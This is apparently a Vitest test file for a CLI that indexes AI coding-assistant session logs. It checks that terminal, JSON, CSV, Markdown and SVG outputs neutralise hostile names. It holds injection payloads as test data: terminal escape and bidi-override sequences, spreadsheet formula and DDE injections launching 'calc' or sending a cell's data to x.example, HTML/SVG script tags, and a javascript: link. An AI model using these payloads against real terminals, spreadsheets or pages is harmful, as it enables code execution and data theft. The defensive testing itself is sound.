import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { GROUPINGS } from '../../src/model/groupings.ts';
import { makeRoot, removeRoots } from '../corpus.ts';
import { readCsv, readMarkdown } from '../read-back.ts';
import { payload, sessionEnd } from './hooks.ts';
import { newHome, removeHomes, tj } from './tj.ts';

/** What steers a terminal, turns text around, or cannot be seen. */
const STEERING =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be printed
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

const STEERS = '\u001b[2J\u001b]0;owned\u0007\u009b31m\r\u0000\u202egnp\u2066x\u2069\u061c\u200b\ufeff\u{e0041}';

/** Each is put where a name can stand; `%` is where it stands. */
const HOSTILE: Readonly<Record<string, string>> = {
  terminal: `${STEERS}%`,
  formula: '=HYPERLINK("http://x.example/?"&A1,"%")',
  formulas: "\t@SUM(1+1)*cmd|'/C calc'!A0 %",
  minus: "-2+3+cmd|' /C calc'!A0 %",
  html: '<img src=x onerror=alert(1)><script>alert("%")</script>&amp;&#x3c;',
  svg: '"/></text></svg><script>%</script>]]><!--',
  table: 'a | b \\| c `%` **d** [e](javascript:alert(1))',
  prototype: '__proto__',
  surrogates: '\ud800%\udfff',
};

const ids = Object.keys(HOSTILE).map((_, i) => `${String(i + 1).padStart(8, '0')}-cccc-4ccc-8ccc-000000000000`);
let home: string;
let root: string;

beforeAll(async () => {
  home = newHome();
  root = makeRoot(Object.fromEntries(Object.values(HOSTILE).flatMap((text, i) => filesOf(ids[i] ?? '', i, text))));
  const env = { CLAUDE_CONFIG_DIR: root };
  expect(tj(['index'], home, env)).toMatchObject({ status: 0, stderr: '' });
  for (const [i, text] of Object.values(HOSTILE).entries()) {
    const words = text.replaceAll('\u0000', '').replace('%', 'label');
    const named = { ...env, TJ_INSTANCE: words, TJ_PROJECT: words, TJ_RUN_ID: words };
    await sessionEnd({ home, stdin: payload(ids[i] ?? '', { reason: words }), env: named, words: ['--foreground'] });
    if (i % 2 === 0) expect(tj(['label', ids[i] ?? '', words.replace(/^-/, '')], home, env).status).toBe(0);
  }
});
afterAll(() => {
  removeHomes();
  removeRoots();
});

/** A session in which the text stands in place of every name, as it is there. */
function filesOf(id: string, n: number, text: string): [string, string][] {
  const as = (what: string) => text.replace('%', what);
  const at = (second: number) => new Date(Date.UTC(2026, 2, 4, 9 + n, 0, second)).toISOString();
  const place = { sessionId: id, cwd: `/w/${as('folder')}`, gitBranch: as('branch'), version: as('version') };
  const line = (type: string, second: number, more: object) =>
    `${JSON.stringify({ type, uuid: `${id}-${second}`, timestamp: at(second), ...place, ...more })}\n`;
  const use = (tool: string, name: string, input: object) => ({ type: 'tool_use', id: `${tool}-${n}`, name, input });
  const usage = {
    input_tokens: 5,
    output_tokens: 50,
    cache_read_input_tokens: 9000,
    cache_creation_input_tokens: 4000,
    service_tier: as('tier'),
  };
  const message = { role: 'assistant', id: `m-${n}`, model: as('model'), stop_reason: as('stop'), usage };
  const by = {
    effort: as('effort'),
    attributionSkill: as('skill'),
    attributionPlugin: as('plugin'),
    attributionMcpServer: as('server'),
  };
  const calls = [
    { type: 'text', text: as('answer') },
    use('a', as('tool'), { [as('key')]: as('value') }),
    use('b', `mcp__${as('server')}__${as('tool')}`, { query: as('query') }),
    use('c', 'Bash', { command: as('command') }),
    use('d', 'Agent', { subagent_type: as('type'), description: as('task'), prompt: as('prompt') }),
    use('e', 'Skill', { skill: as('skill') }),
    use('f', 'Edit', { file_path: `/w/${as('file')}`, old_string: 'a', new_string: 'b' }),
  ];
  const failed = [{ type: 'tool_result', tool_use_id: `a-${n}`, content: as('error'), is_error: true }];
  const main = [
    line('custom-title', 0, { customTitle: as('title') }),
    line('user', 1, { message: { role: 'user', content: as('prompt') }, permissionMode: as('mode') }),
    line('attachment', 2, {
      attachment: { type: 'mcp_instructions_delta', addedNames: [as('server')], addedBlocks: ['x'.repeat(400)] },
    }),
    line('assistant', 9, { message: { ...message, content: calls }, ...by }),
    line('user', 12, { message: { role: 'user', content: failed } }),
    line('pr-link', 13, { prNumber: 7, prRepository: as('owner/repo'), prUrl: as('url') }),
    line('system', 14, { subtype: 'api_error', error: { type: as('type'), status: 500 } }),
  ];
  const agent = line('assistant', 11, {
    message: { ...message, id: `g-${n}`, content: [] },
    agentId: `x${n}`,
    isSidechain: true,
  });
  return [
    [`-w-app/${id}.jsonl`, main.join('')],
    [`-w-app/${id}/subagents/agent-x${n}.jsonl`, agent],
    [
      `-w-app/${id}/subagents/agent-x${n}.meta.json`,
      JSON.stringify({ agentType: as('type'), description: as('task'), toolUseId: `d-${n}` }),
    ],
  ];
}

function answerTo(words: readonly string[]): string {
  const { status, stdout, stderr } = tj(words, home, { CLAUDE_CONFIG_DIR: root, FORCE_COLOR: '0' });
  expect({ words, status, stderr: stderr.replace(/^tj: .*\n/gm, '') }).toEqual({ words, status: 0, stderr: '' });
  return stdout + stderr;
}

const TABLES = [
  ...[['sessions'], ['agents'], ['runs']],
  // Times first: in these stands no name.
  ...GROUPINGS.slice(GROUPINGS.indexOf('session')).map((by) => ['usage', '--by', by]),
];

const CARDS = [
  ...[
    [],
    ['quickstart'],
    ['context', '--since', 'all'],
    ['context', '--by', 'item', '--all', '--since', 'all'],
    ['advise', '--since', 'all'],
  ],
  ...[
    ['quota-audit', '--since', 'all'],
    ['status'],
    ['compare', '--around', '2026-03-04'],
    ['tokenmaxx', '--since', 'all'],
    ['doctor'],
  ],
  ...[ids[0] ?? '', ids[8] ?? ''].flatMap((id) => [
    ['session', id],
    ['session', id, '--timeline'],
    ['session', id, '--spans'],
  ]),
];

describe('names as an attacker would choose them', () => {
  test('steer no terminal, in no card and no table', { timeout: 120_000 }, () => {
    for (const words of [...CARDS, ...TABLES]) expect(answerTo(words), words.join(' ')).not.toMatch(STEERING);
  });

  test('are JSON of one document in which all that steers is escaped', () => {
    for (const words of [...TABLES.slice(0, 6), ...CARDS.slice(0, 12).filter(([name]) => name !== undefined)]) {
      const text = answerTo([...words, '--json']);
      expect(() => JSON.parse(text), words.join(' ')).not.toThrow();
      expect(text, words.join(' ')).not.toMatch(STEERING);
    }
  });

  test('are lines of NDJSON', () => {
    const text = answerTo(['export', '--ndjson']);
    expect(text).not.toMatch(STEERING);
    for (const line of text.trimEnd().split('\n')) expect(typeof JSON.parse(line)).toBe('object');
  });

  test('are cells of CSV that no spreadsheet runs', { timeout: 120_000 }, () => {
    for (const words of TABLES) {
      const [head = [], ...rows] = readCsv(answerTo([...words, '--csv']));
      expect(rows.length, words.join(' ')).toBeGreaterThan(0);
      for (const cell of [...head, ...rows.flat()]) {
        expect(cell, words.join(' ')).not.toMatch(/^[=+@\t\r-]/);
        expect(cell, words.join(' ')).not.toMatch(STEERING);
      }
    }
  });

  test('are cells of Markdown that bring no markup with them', { timeout: 120_000 }, () => {
    for (const words of TABLES) {
      const text = answerTo([...words, '--md']);
      const rows = readMarkdown(text);
      expect(rows.length, words.join(' ')).toBeGreaterThan(1);
      expect(text, words.join(' ')).not.toMatch(/(?<!\\)<\w/);
      expect(text, words.join(' ')).not.toMatch(/(?<!\\)\]\(/);
      expect(text, words.join(' ')).not.toMatch(STEERING);
    }
  });

  test('are text of a picture, never parts of it', () => {
    const picture = answerTo(['tokenmaxx', '--svg', '-', '--with-names', '--since', 'all']);
    expect(picture).not.toMatch(STEERING);
    const tags = new Set([...picture.matchAll(/<\/?([a-zA-Z]+)/g)].map(([, name]) => name));
    for (const name of tags)
      expect([
        'svg',
        'g',
        'rect',
        'text',
        'tspan',
        'style',
        'defs',
        'title',
        'desc',
        'path',
        'line',
        'font',
        'circle',
        'clipPath',
      ]).toContain(name);
    expect(picture.replace(/<\/?[a-zA-Z][^<>]*>/g, '')).not.toMatch(/[<>]|&(?!amp;|lt;|gt;|quot;|#39;|apos;)/);
  });
});
